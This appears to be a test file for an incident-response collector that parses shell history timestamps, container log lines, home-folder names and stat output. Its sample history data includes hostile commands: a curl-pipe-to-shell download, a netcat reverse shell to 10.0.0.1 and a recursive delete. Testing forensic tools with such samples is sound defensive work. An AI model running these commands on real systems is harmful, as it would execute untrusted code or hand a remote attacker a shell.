// The parsers that give history commands and log lines their real times.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseHistory } from '../../../src/core/collectors/historyParsers.js';
import { parseTimestampedLine } from '../../../src/core/collectors/containerLogs.js';
import { containerFromFieldPath } from '../../../src/core/collectors/events.js';
import { homeUsers, parseStat, candidatesFor } from '../../../src/core/collectors/commandHistory.js';

test('bash "#<epoch>" lines give the command after them its time; others have none', () => {
  const entries = parseHistory('bash', Buffer.from('#1700000000\ncurl -s http://x/m.sh | sh\nls\n#1700000100\nrm -rf /tmp/m\n'));
  assert.deepEqual(
    entries.map((e) => [e.command, e.epoch, e.timeSource]),
    [
      ['curl -s http://x/m.sh | sh', 1700000000, 'bash-timestamp'],
      ['ls', null, null],
      ['rm -rf /tmp/m', 1700000100, 'bash-timestamp'],
    ],
  );
});

test('zsh extended history and fish "when:" give times; multi-line zsh commands stay one entry', () => {
  const zsh = parseHistory('zsh', Buffer.from(': 1700000000:0;wget http://x\n: 1700000005:2;echo a \\\nb\nplain\n'));
  assert.deepEqual(
    zsh.map((e) => [e.command, e.epoch, e.timeSource]),
    [
      ['wget http://x', 1700000000, 'zsh-extended'],
      ['echo a \nb', 1700000005, 'zsh-extended'],
      ['plain', null, null],
    ],
  );
  const fish = parseHistory('fish', Buffer.from('- cmd: nc -e /bin/sh 10.0.0.1 4444\n  when: 1700000200\n  paths:\n    - /bin/sh\n- cmd: echo a\\nb\n'));
  assert.deepEqual(
    fish.map((e) => [e.command, e.epoch, e.timeSource]),
    [
      ['nc -e /bin/sh 10.0.0.1 4444', 1700000200, 'fish-when'],
      ['echo a\nb', null, null],
    ],
  );
  const mysql = parseHistory('mysql', Buffer.from('_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n'));
  assert.deepEqual(mysql.map((e) => e.command), ['select * from users;']);
});

test('log lines: the RFC3339Nano prefix becomes a 7-digit UTC time; anything else is kept whole', () => {
  assert.deepEqual(parseTimestampedLine('2024-05-01T10:00:00.123456789Z GET / 200'), { time: '2024-05-01T10:00:00.1234567Z', message: 'GET / 200' });
  assert.deepEqual(parseTimestampedLine('2024-05-01T12:00:00+02:00 x'), { time: '2024-05-01T10:00:00.0000000Z', message: 'x' });
  assert.deepEqual(parseTimestampedLine('2024 is not a timestamp'), { time: null, message: '2024 is not a timestamp' });
  assert.deepEqual(parseTimestampedLine(''), { time: null, message: '' });
});

test('home folder names that could escape a path are ignored; stat output is matched to asked paths', () => {
  assert.deepEqual(homeUsers('alice\n..\nbob smith\n.hidden\nx/y\ncarol\n'), ['alice', 'carol']);
  const cands = candidatesFor(['alice']);
  const found = parseStat('1700000000 42 /root/.bash_history\n1700000001 7 /home/alice/.zsh_history\n1 1 /etc/shadow\n', cands);
  assert.deepEqual(
    found.map((f) => [f.path, f.user, f.shell, f.size, f.mtime]),
    [
      ['/root/.bash_history', 'root', 'bash', 42, '2023-11-14T22:13:20.0000000Z'],
      ['/home/alice/.zsh_history', 'alice', 'zsh', 7, '2023-11-14T22:13:21.0000000Z'],
    ],
  );
});

test('event fieldPath names the container', () => {
  assert.equal(containerFromFieldPath('spec.containers{web}'), 'web');
  assert.equal(containerFromFieldPath('spec.initContainers{init-db}'), 'init-db');
  assert.equal(containerFromFieldPath('metadata.name'), '');
});
